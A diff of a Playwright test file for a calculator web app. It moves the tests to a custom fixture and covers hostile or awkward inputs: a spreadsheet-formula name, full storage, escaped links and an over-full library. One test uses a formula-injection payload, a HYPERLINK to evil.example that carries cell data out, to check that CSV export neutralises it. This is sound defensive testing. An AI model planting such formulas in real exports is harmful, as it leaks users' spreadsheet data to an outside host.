@@ -1,12 +1,10 @@
 // What a hostile or unlucky user brings: a link whose name is a spreadsheet formula, a storage that is
 // full, a link mangled by the address bar, a link that a full library cannot take.
-import { expect, test } from "@playwright/test";
-import { CalculatorPage } from "./fixtures/calculator-page";
+import { expect, test } from "./fixtures/calculator-page";
 
 const link = (scenario: object) => `#s=${Buffer.from(JSON.stringify(scenario)).toString("base64url")}`;
 
-test("a name that is a spreadsheet formula is written as text in the CSV", async ({ page }) => {
-  const calc = new CalculatorPage(page);
+test("a name that is a spreadsheet formula is written as text in the CSV", async ({ page, calc }) => {
   const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
   await page.goto(`/${link({ version: 1, name: formula })}`);
   await expect(calc.byTestId("scenario-name")).toHaveValue(formula);
@@ -20,8 +18,7 @@ test("a name that is a spreadsheet formula is written as text in the CSV", async
   }
 });
 
-test("saved scenarios in a full storage are listed and left as they are", async ({ page }) => {
-  const calc = new CalculatorPage(page);
+test("saved scenarios in a full storage are listed and left as they are", async ({ page, calc }) => {
   await calc.goto();
   await calc.rename("Client A");
   await calc.byTestId("scenario-duplicate").click();
@@ -51,8 +48,7 @@ test("saved scenarios in a full storage are listed and left as they are", async 
   expect(await calc.storedLibrary()).toBe(stored);
 });
 
-test("a link with spaces the address bar escaped opens", async ({ page }) => {
-  const calc = new CalculatorPage(page);
+test("a link with spaces the address bar escaped opens", async ({ page, calc }) => {
   const fragment = link({ version: 1, name: "Spaced out" });
   const spaced = `${fragment.slice(0, 30)}%20${fragment.slice(30, 60)}%20${fragment.slice(60)}`;
   await page.goto(`/${spaced}`);
@@ -60,8 +56,7 @@ test("a link with spaces the address bar escaped opens", async ({ page }) => {
   await expect(calc.notices()).toContainText("Opened the shared scenario");
 });
 
-test("a link that a full library cannot take stays in the address", async ({ page }) => {
-  const calc = new CalculatorPage(page);
+test("a link that a full library cannot take stays in the address", async ({ page, calc }) => {
   await calc.goto();
   // A first visit stores nothing until its first change.
   await calc.rename("Template");
